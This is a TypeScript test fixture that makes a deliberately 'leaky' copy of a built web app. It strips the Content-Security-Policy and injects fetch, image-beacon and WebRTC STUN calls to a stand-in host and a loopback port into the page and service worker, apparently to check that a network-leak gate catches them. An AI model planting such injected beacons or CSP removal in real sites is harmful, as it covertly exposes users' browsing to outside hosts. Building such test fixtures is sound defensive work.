import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";

const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** A copy of the built app without its policy that tells on its reader: what a gate must find. */
export async function leakyBuild(sinkPort: number) {
  const dir = await mkdtemp(join(tmpdir(), "baljaguk-leaky-"));
  await cp("dist", dir, { recursive: true });
  const page = join(dir, "index.html");
  const html = (await readFile(page, "utf8")).replace(policy, "");
  if (policy.test(html)) throw new Error("The policy is still there.");
  const script = `<script>
    fetch("http://elsewhere.example/from-page", { mode: "no-cors" }).catch(() => 0);
    new Image().src = "http://elsewhere.example/from-picture";
    fetch("http://127.0.0.1:${sinkPort}/from-page-to-loopback", { mode: "no-cors" }).catch(() => 0);
    if (window.RTCPeerConnection) {
      const iceServers = ["127.0.0.1:${sinkPort}", "stun.elsewhere.example"].map((at) => ({ urls: "stun:" + at }));
      const peer = new RTCPeerConnection({ iceServers });
      peer.createDataChannel("a");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }
  </script>`;
  await writeFile(page, html.replace("</body>", `${script}</body>`));
  const worker = join(dir, "sw.js");
  const code = await readFile(worker, "utf8");
  const leak = `fetch("http://elsewhere.example/from-worker", { mode: "no-cors" }).catch(() => 0);`;
  await writeFile(worker, `${leak}${code}`);
  return { dir, remove: () => rm(dir, { recursive: true }) };
}
